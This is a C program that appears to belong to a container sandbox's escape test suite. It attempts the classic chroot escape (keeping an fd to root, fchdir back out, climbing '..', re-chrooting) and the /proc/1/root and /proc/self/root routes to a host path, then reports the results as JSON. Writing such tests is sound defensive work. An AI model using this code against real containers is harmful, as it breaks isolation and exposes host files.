/* The escape suite's attacker: a static program run inside a container with its own root
 * filesystem (busybox has no way to chroot with a kept fd). Prints one JSON object.
 *
 *   attacker chroot HOST_PATH   the chroot trick: keep an fd of /, chroot into a subdirectory,
 *                               fchdir back out of it, climb "..", chroot("."), then look for
 *                               HOST_PATH; and the /proc/1/root, /proc/self/root routes.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int try_open(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return errno;
    close(fd);
    return 0;
}

static int result(int rc)
{
    return rc < 0 ? errno : 0;
}

int main(int argc, char **argv)
{
    if (argc != 3 || strcmp(argv[1], "chroot") != 0) {
        fprintf(stderr, "usage: attacker chroot HOST_PATH\n");
        return 2;
    }
    const char *host_path = argv[2];
    char via_proc1[4096], via_self[4096], climbed[4096];
    snprintf(via_proc1, sizeof via_proc1, "/proc/1/root%s", host_path);
    snprintf(via_self, sizeof via_self, "/proc/self/root/../../../..%s", host_path);
    snprintf(climbed, sizeof climbed, "../../../../../../../../..%s", host_path);

    int before = try_open(host_path);
    int proc1 = try_open(via_proc1);
    int self = try_open(via_self);

    mkdir("/nsbox-jail", 0700);
    int root_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int jailed = result(chroot("/nsbox-jail"));
    int back = result(fchdir(root_fd));
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    int rechroot = result(chroot("."));
    int after = try_open(host_path);
    int after_climb = try_open(climbed);
    char cwd[4096] = "";
    if (!getcwd(cwd, sizeof cwd))
        strcpy(cwd, "?");

    printf("{\"before\": %d, \"proc1_root\": %d, \"self_root\": %d, \"chroot\": %d, "
           "\"fchdir\": %d, \"chroot_dot\": %d, \"after\": %d, \"after_climb\": %d, "
           "\"cwd\": \"%s\"}\n",
           before, proc1, self, jailed, back, rechroot, after, after_climb, cwd);
    return 0;
}
